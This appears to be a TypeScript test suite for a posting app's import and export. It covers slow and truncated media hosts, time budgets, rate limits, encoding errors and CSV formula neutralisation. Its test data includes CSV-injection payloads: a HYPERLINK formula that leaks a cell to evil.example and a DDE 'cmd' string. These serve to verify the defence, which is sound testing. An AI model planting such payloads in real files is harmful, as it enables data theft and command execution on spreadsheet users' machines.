import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createServer, type Server, type ServerResponse } from 'node:http';
import { after, before, describe, test } from 'node:test';
import { samplePng } from '@postwave/shared/testing';
import type { Client } from '../helpers/client.ts';
import { userWithToken } from '../helpers/client.ts';
import { backends } from '../helpers/databases.ts';
import { connectTelegram, startTelegramApp, type TelegramApp } from '../helpers/fixtures.ts';

/**
 * An import against hostile media hosts, its time budget, its rate limit and its handling of
 * text that is not UTF-8; the CSV export read by an independent reader and read back
 * (docs/import-export.md). Over HTTP against the production build.
 */

/** Python's csv module reads the export: not our parser, so not our mistakes. */
function readWithPython(text: string): string[][] {
  const script = [
    'import csv, io, json, sys',
    "data = sys.stdin.buffer.read().decode('utf-8')",
    "print(json.dumps(list(csv.reader(io.StringIO(data, newline='')))))",
  ].join('\n');
  return JSON.parse(execFileSync('python3', ['-c', script], { input: text, encoding: 'utf8' }));
}

const hostileMessages = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\tTab first',
  '\rCarriage return first',
  "'=already quoted by hand",
  'A bare\nline feed, then\n=forged,row',
  'Quotes "inside", commas, and\r\nCRLF',
];

const budgetMs = 3_000;
const ratePerMinute = 4;

/**
 * /good.png: a PNG. /short.png: announces 100000 bytes of PNG, sends 10 and closes. /slow/*: a
 * PNG header a byte a second, for ever (until the client goes).
 */
async function startHostileHost(): Promise<{ server: Server; url: string; open: () => number }> {
  const trickling = new Set<ServerResponse>();
  const server = createServer((req, res) => {
    if (req.url === '/good.png') {
      res.writeHead(200, { 'content-type': 'image/png' });
      res.end(samplePng());
    } else if (req.url === '/short.png') {
      res.writeHead(200, { 'content-type': 'image/png', 'content-length': '100000' });
      res.write(samplePng().subarray(0, 10), () => res.socket?.destroy());
    } else if (req.url?.startsWith('/slow/')) {
      res.writeHead(200, { 'content-type': 'image/png', 'content-length': '100000' });
      trickling.add(res);
      const png = samplePng();
      let sent = 0;
      const timer = setInterval(
        () => res.write(png.subarray(sent % png.length, (sent++ % png.length) + 1)),
        1000,
      );
      res.on('close', () => {
        clearInterval(timer);
        trickling.delete(res);
      });
    } else res.writeHead(404).end();
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const { port } = server.address() as { port: number };
  return { server, url: `http://127.0.0.1:${port}`, open: () => trickling.size };
}

const importFile = (api: Client, body: string | Uint8Array, dryRun = true, type = 'text/csv') =>
  api.json(`/api/v1/posts/import?dryRun=${dryRun}`, {
    method: 'POST',
    headers: { 'content-type': type },
    body: body as BodyInit,
  });
const importCsv = (api: Client, body: string, dryRun = true) => importFile(api, body, dryRun);

for (const backend of backends()) {
  describe(`import and export safety (${backend})`, () => {
    let env: TelegramApp;
    let host: Awaited<ReturnType<typeof startHostileHost>>;
    before(async () => {
      host = await startHostileHost();
      env = await startTelegramApp(backend, {
        ALLOW_PRIVATE_HOSTS: new URL(host.url).host,
        IMPORT_TIME_BUDGET_MS: String(budgetMs),
        IMPORT_RATE_LIMIT: String(ratePerMinute),
      });
    });
    after(async () => {
      await env?.stop();
      host?.server.closeAllConnections();
      host?.server.close();
    });

    test('a media host that announces 100000 bytes, sends 10 and closes fails its row only (200)', async () => {
      const { api } = await userWithToken(env.app.url, 'short-host');
      await connectTelegram(api, '@news');
      const body = [
        'message,accounts,media',
        `Broken host,@news,${host.url}/short.png`,
        `Good host,@news,${host.url}/good.png`,
        'No media,@news,',
      ].join('\r\n');
      const res = await importCsv(api, body);
      assert.equal(res.status, 200, JSON.stringify(res.body));
      const rows = res.body.rows as {
        index: number;
        valid: boolean;
        errors: { code: string; path?: string }[];
      }[];
      assert.deepEqual(
        rows.map((r) => r.valid),
        [false, true, true],
      );
      assert.deepEqual(
        rows[0]!.errors.map((e) => [e.code, e.path]),
        [['fetch_failed', 'media[0]']],
      );
      assert.equal(res.body.timeBudgetExceeded, undefined);
      // The server is fine afterwards, and logged no unhandled error.
      assert.equal((await importCsv(api, 'message\r\nStill here\r\n')).status, 200);
      assert.doesNotMatch(env.app.output(), /unhandled error in route/);
    });

    test('1,000 rows × 20 media URLs on a host sending a byte a second: 200 once the budget is spent, every row says why', async () => {
      const { api } = await userWithToken(env.app.url, 'slow-host');
      await connectTelegram(api, '@news');
      const lines = ['message,accounts,media'];
      for (let row = 0; row < 1000; row++) {
        const media = Array.from({ length: 20 }, (_, m) => `${host.url}/slow/${row}-${m}.png`).join('|');
        lines.push(`Row ${row},@news,${media}`);
      }
      const res = await importCsv(api, `${lines.join('\r\n')}\r\n`, false);
      assert.equal(res.status, 200, JSON.stringify(res.body).slice(0, 500));
      assert.equal(res.body.committed, false);
      assert.equal(res.body.timeBudgetExceeded, true);
      const rows = res.body.rows as { valid: boolean; errors: { code: string; message: string }[] }[];
      assert.equal(rows.length, 1000);
      assert.ok(rows.every((r) => !r.valid && r.errors.length > 0));
      const codes = new Set(rows.flatMap((r) => r.errors.map((e) => e.code)));
      // Downloads cut off or never started say so; URLs over the per-import download cap say that.
      assert.ok(codes.has('time_budget_exceeded'), [...codes].join());
      assert.ok([...codes].every((c) => c === 'time_budget_exceeded' || c === 'too_many_media_urls'));
      const first = rows[0]!.errors.find((e) => e.code === 'time_budget_exceeded')!;
      assert.match(first.message, /time budget of 3 s/);
      // The downloads in flight were abandoned, not left trickling.
      for (let i = 0; i < 50 && host.open() > 0; i++) await new Promise((r) => setTimeout(r, 100));
      assert.equal(host.open(), 0);
      assert.equal((await api.json('/api/v1/posts?limit=5')).body.posts.length, 0);
    });

    test('CSV export: formula cells neutralised, line breaks quoted (Python csv reads it), and it imports back exactly', async () => {
      const { api } = await userWithToken(env.app.url, 'exporter');
      const news = await connectTelegram(api, '@news');
      for (const message of hostileMessages) {
        const res = await api.json('/api/v1/posts', {
          json: { message, accountIds: [news], postingMode: 'draft' },
        });
        assert.equal(res.status, 201, JSON.stringify(res.body));
      }
      const exported = await (await api.fetch('/api/v1/posts/export?format=csv')).text();
      const records = readWithPython(exported);
      assert.equal(records.length, hostileMessages.length + 1, 'one record per post, no forged rows');
      const column = records[0]!.indexOf('message');
      const messages = records.slice(1).map((r) => r[column]!);
      // The cells a spreadsheet would run start with a quote; the others are as written.
      assert.deepEqual(messages, [
        `'${hostileMessages[0]}`,
        `'${hostileMessages[1]}`,
        `'${hostileMessages[2]}`,
        `'${hostileMessages[3]}`,
        `'${hostileMessages[4]}`,
        `'${hostileMessages[5]}`,
        `'${hostileMessages[6]}`,
        hostileMessages[7],
        hostileMessages[8],
      ]);
      assert.ok(
        records.every((r) => r.every((cell) => !/^[=+\-@\t\r]/.test(cell))),
        'no cell starts like a formula',
      );

      // The importer removes the neutralising quote: the copies come back with their own text.
      const back = await importCsv(api, exported, false);
      assert.equal(back.status, 200, JSON.stringify(back.body));
      assert.equal(back.body.committed, true, JSON.stringify(back.body));
      const all = await api.json('/api/v1/posts/export?format=json');
      assert.deepEqual(
        all.body.map((p: { message: string }) => p.message),
        [...hostileMessages, ...hostileMessages],
      );
    });

    test('text that is not UTF-8 is refused with 422 naming the row and byte; lone surrogates too', async () => {
      const { api } = await userWithToken(env.app.url, 'encodings');
      const latin1 = Buffer.concat([
        Buffer.from('message\r\nFine row\r\n"A quoted\nrow"\r\nCaf'),
        Buffer.from([0xe9]),
        Buffer.from(' in Windows-1252\r\n'),
      ]);
      const bad = await importFile(api, latin1);
      assert.equal(bad.status, 422, JSON.stringify(bad.body));
      assert.equal(bad.body.errors[0].code, 'invalid_utf8');
      assert.match(bad.body.errors[0].message, new RegExp(`byte ${latin1.indexOf(0xe9)} \\(row 3\\)`));

      const utf16 = Buffer.from('\ufeffmessage\r\nHello\r\n', 'utf16le');
      const wide = await importFile(api, utf16);
      assert.equal(wide.status, 422);
      assert.match(wide.body.errors[0].message, /UTF-16/);

      const surrogate = '[{"message":"fine"},{"message":"half a pair: \\ud83d here"}]';
      const lone = await importFile(api, surrogate, true, 'application/json');
      assert.equal(lone.status, 422, JSON.stringify(lone.body));
      assert.deepEqual(
        [lone.body.errors[0].code, lone.body.errors[0].path],
        ['lone_surrogate', '[1].message'],
      );
      assert.equal((await api.json('/api/v1/posts?limit=5')).body.posts.length, 0);
    });

    test(`more than IMPORT_RATE_LIMIT (${ratePerMinute}) imports a minute answer 429 with Retry-After`, async () => {
      const { api } = await userWithToken(env.app.url, 'hasty');
      for (let i = 0; i < ratePerMinute; i++)
        assert.equal((await importCsv(api, `message\r\nTry ${i}\r\n`)).status, 200);
      const refused = await importCsv(api, 'message\r\nOne too many\r\n');
      assert.equal(refused.status, 429);
      assert.equal(refused.body.code, 'rate_limited');
      assert.equal(refused.headers.get('retry-after'), '60');
      // Per user: someone else still imports.
      const other = await userWithToken(env.app.url, 'patient');
      assert.equal((await importCsv(other.api, 'message\r\nMine\r\n')).status, 200);
    });
  });
}
